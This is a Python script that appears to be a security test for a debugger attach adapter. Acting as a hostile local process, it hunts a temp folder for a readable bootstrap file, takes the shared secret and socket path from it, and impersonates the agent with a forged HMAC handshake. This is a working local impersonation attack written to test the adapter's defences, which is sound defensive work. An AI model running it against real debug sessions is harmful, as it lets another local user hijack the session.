"""A hostile process of the target's user: it reads the secret from the bootstrap (argv[1], or the first
`dapattach-*/bootstrap.py` it finds in the folder argv[1], as an attacker watching /tmp would), connects to
the agent's socket first and says hello as the agent would. Prints what the adapter answered."""

import glob
import hashlib
import hmac
import json
import os
import re
import socket
import sys
import time


def find(where):
    if not os.path.isdir(where):
        return where
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        for folder in sorted(glob.glob(os.path.join(where, "dapattach-*"))):
            if os.access(os.path.join(folder, "bootstrap.py"), os.R_OK):
                return os.path.join(folder, "bootstrap.py")
    sys.exit(f"no readable bootstrap appeared in {where}")


with open(find(sys.argv[1]), encoding="utf-8") as bootstrap:
    text = bootstrap.read()
secret = re.search(r"'([0-9a-f]{64})'", text)[1]
socket_path = re.search(r"'(tcp:[^']*|[^']*agent\.sock)'", text)[1]
if socket_path.startswith("tcp:"):
    host, _, port = socket_path[4:].rpartition(":")
    sock, address = socket.socket(socket.AF_INET), (host, int(port))
else:
    sock, address = socket.socket(socket.AF_UNIX), socket_path
with sock:
    sock.settimeout(30)
    sock.connect(address)
    hello = {
        "type": "hello",
        "protocol": 1,
        "nonce": "00",
        "proof": hmac.new(secret.encode(), b"agent:00", hashlib.sha256).hexdigest(),
        "pid": os.getpid(),
        "python": "3.14.0",
        "executable": "impostor",
    }
    try:
        sock.sendall(json.dumps(hello).encode() + b"\n")
        answer = sock.recv(4096)
    except ConnectionError:
        answer = b""
print(f"PID {os.getpid()} connected; the adapter answered {answer!r}", flush=True)
